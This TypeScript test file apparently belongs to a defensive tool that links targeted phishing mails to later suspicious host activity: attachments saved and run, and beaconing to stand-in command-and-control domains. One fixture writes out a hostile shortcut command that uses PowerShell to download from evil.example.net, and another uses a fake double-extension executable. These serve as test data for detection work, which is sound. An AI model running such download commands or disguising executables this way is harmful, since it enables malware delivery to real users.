import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import type { Detector } from '../detect/detector.ts'
import { minutes, type Organisation, organisation } from '../detect/test-organisation.ts'
import { loadLists } from '../lists/index.ts'
import type { Finding, MailRow } from './findings.ts'
import type { Owner } from './inventory.ts'
import { mailStories } from './mail-story.ts'
import { ANY_LOG } from './present.ts'
import type { MailFacts } from './told-mail.ts'

const DELIVERED = 1500 // minutes since the office's first midnight
const ANY = { id: 'any', parameters: [] } as unknown as Detector

let office: Organisation
before(async () => {
  office = await organisation(20)
})
after(async () => await office.close())
beforeEach(async () => {
  await office.clear()
  for (let i = 1; i < 10; i++) await office.web(`10.0.1.${i}`, 'www.known.co.jp', minutes(500, 3000, 200))
})

const time = new Date(Date.parse('2026-10-04T15:00:00Z') + DELIVERED * 60_000).toISOString().replace('.000', '')

async function stories(
  names: {
    links?: string[]
    details?: string[]
    files?: { name: string; sha256: string }[]
    recipient?: string
    inventory?: Owner[]
  },
  findings: Finding[] = [],
) {
  const row = {
    mail: 'a.eml',
    kind: '標的型',
    recipients: [names.recipient ?? 'sato@own.co.jp'],
    subject: '資料',
    from: 'x@partner.co.jp',
    time,
  } as MailRow
  const facts = {
    mail_id: 'm1',
    file: 'a.eml',
    time,
    from_domain: 'partner.co.jp',
    to: ['sato@own.co.jp'],
    cc: [],
    delivered_to: [],
    evidence_id: 'e',
    line: 1,
    links: (names.links ?? []).map((domain) => ({
      url: `https://${domain}/x`,
      url_domain: domain,
      shown: '',
      source: 'text',
    })),
    items: [
      { name: '', sha256: '', traits: (names.details ?? []).map((detail) => ({ trait: 'lnk-command', detail })) },
      ...(names.files ?? []).map((file) => ({ ...file, traits: [] })),
    ],
  } as unknown as MailFacts
  const { roles } = await office.context(ANY)
  return await mailStories(office.engine, [row], new Map([['a.eml', facts]]), findings, {
    lists: loadLists(),
    roles,
    hasLeases: false,
    present: ANY_LOG,
    inventory: names.inventory ?? [],
    lang: 'en',
  })
}

const sign = (host: string, destination: string): Finding =>
  ({
    id: 'f1',
    severity: 'high',
    title: 'beacon',
    hosts: [host],
    destinations: [destination],
    first_seen: '2026-10-06T00:00:00Z',
  }) as unknown as Finding

test('a host that goes where the attachment would, after the mail came, opened it', async () => {
  await office.web('10.0.1.7', 'evil.example.net', [DELIVERED + 12, DELIVERED + 20])
  const [story] = await stories({ details: ['cmd /c powershell iwr https://evil.example.net/a'] })
  assert.deepEqual([story?.host, story?.link, story?.destinations], ['10.0.1.7', 'named-place', ['evil.example.net']])
  assert.match(story?.text ?? '', /^12 minutes after/)
  assert.deepEqual(
    story?.steps.map((step) => step.what),
    ['delivered', 'contacted'],
  )
})

test('what was contacted before the mail, what everybody knows, and the parties themselves tell nothing', async () => {
  await office.web('10.0.1.7', 'evil.example.net', [DELIVERED - 30])
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 10])
  await office.web('10.0.1.7', 'www.partner.co.jp', [DELIVERED + 10])
  assert.deepEqual(await stories({ links: ['evil.example.net', 'www.known.co.jp', 'www.partner.co.jp'] }), [])
})

test("a recipient's PC that soon goes to a new place with a serious sign was perhaps infected by the mail", async () => {
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  await office.web('10.0.1.7', 'c2.example.org', minutes(DELIVERED + 40, DELIVERED + 900, 10))
  const [story] = await stories({}, [sign('10.0.1.7', 'c2.example.org')])
  assert.deepEqual(
    [story?.host, story?.recipient, story?.link],
    ['10.0.1.7', 'sato@own.co.jp', 'recipient-first-contact'],
  )
  assert.equal(story?.steps.at(-1)?.finding, 'f1')
})

test('where no log tells whose a PC is, the inventory does; where one does, the log is believed', async () => {
  await office.web('10.0.1.7', 'c2.example.org', minutes(DELIVERED + 40, DELIVERED + 900, 10))
  const found = [sign('10.0.1.7', 'c2.example.org')]
  assert.deepEqual(await stories({}, found), [])
  const inventory = [{ person: 'sato', hosts: ['PC-77', '10.0.1.7'] }]
  assert.equal((await stories({ inventory }, found))[0]?.recipient, 'sato@own.co.jp')
  await office.web('10.0.1.8', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  assert.deepEqual(await stories({ inventory }, found), [])
})

test("somebody else's PC, an older contact, or a place without a sign is no story", async () => {
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  await office.web('10.0.1.7', 'new.example.org', [DELIVERED + 40])
  await office.web('10.0.1.7', 'old.example.org', [DELIVERED - 300, DELIVERED + 40])
  await office.web('10.0.1.8', 'c2.example.org', [DELIVERED + 40])
  assert.deepEqual(await stories({}, [sign('10.0.1.8', 'c2.example.org'), sign('10.0.1.7', 'old.example.org')]), [])
})

const USER = 'C:\\Users\\sato\\'
const SHA256 = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb'

test("a computer's own events tell that an attachment, or a file within its archive, was saved, opened and run there", async () => {
  const at = (minute: number, values: Record<string, unknown>) =>
    office.endpoint('PC-SATO', [DELIVERED + minute], { user_name: 'sato', ...values })
  await at(10, {
    event_action: 'file-create',
    process_executable: 'OUTLOOK.EXE',
    file_path: `${USER}Downloads\\会議資料一式 (1).zip`,
  })
  await at(12, {
    process_executable: 'C:\\Program Files\\7-Zip\\7zFM.exe',
    process_command_line: `"7zFM.exe" "${USER}Downloads\\会議資料一式 (1).zip"`,
  })
  await at(13, {
    process_executable: `${USER}AppData\\Local\\Temp\\7zO1\\議事次第.pdf.exe`,
    process_parent_executable: 'C:\\Program Files\\7-Zip\\7zFM.exe',
  })
  await office.web('10.0.1.7', 'evil.example.net', [DELIVERED + 15])
  const files = [
    { name: '会議資料一式.zip', sha256: '' },
    { name: '議事次第.pdf.exe', sha256: SHA256 },
  ]
  const later = { ...sign('PC-SATO', ''), destinations: [], first_seen: '2026-10-06T00:00:00Z' } as Finding
  const [story, ...others] = await stories({ files }, [later])
  assert.deepEqual(
    [story?.host, story?.link, story?.recipient, others],
    ['PC-SATO', 'attachment-opened', 'sato@own.co.jp', []],
  )
  assert.deepEqual(
    story?.steps.map((step) => step.what),
    ['delivered', 'saved', 'opened', 'ran', 'found'],
  )
  assert.match(story?.text ?? '', /^13 minutes after .* ran on PC-SATO, the PC of its recipient/)
  assert.equal(story?.confidence, 0.95)
})

test('a name that was there before the mail, on many computers, or that everybody gives, is no attachment; the same content is', async () => {
  const command = (name: string) => ({
    process_executable: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
    process_command_line: `"WINWORD.EXE" /n "${USER}Documents\\${name}"`,
  })
  await office.endpoint('PC-OLD', [DELIVERED - 60, DELIVERED + 60], command('週報の様式.docx'))
  for (let i = 0; i < 8; i++) await office.endpoint(`PC-${i}`, [DELIVERED + 60], command('社内報十月号.docx'))
  await office.endpoint('PC-X', [DELIVERED + 60], command('請求書.docx'))
  await office.endpoint('PC-X', [DELIVERED + 60], command('新しい週報の様式2.docx'))
  const named = ['週報の様式.docx', '社内報十月号.docx', '請求書.docx', '報の様式2.doc'].map((name) => ({
    name,
    sha256: SHA256,
  }))
  assert.deepEqual(await stories({ files: named }), [])
  await office.endpoint('PC-Y', [DELIVERED + 90], {
    process_executable: `${USER}Desktop\\別名.exe`,
    process_hash_sha256: SHA256,
  })
  const [story] = await stories({ files: named })
  assert.deepEqual([story?.host, story?.confidence, story?.steps[1]?.what], ['PC-Y', 0.98, 'ran'])
})
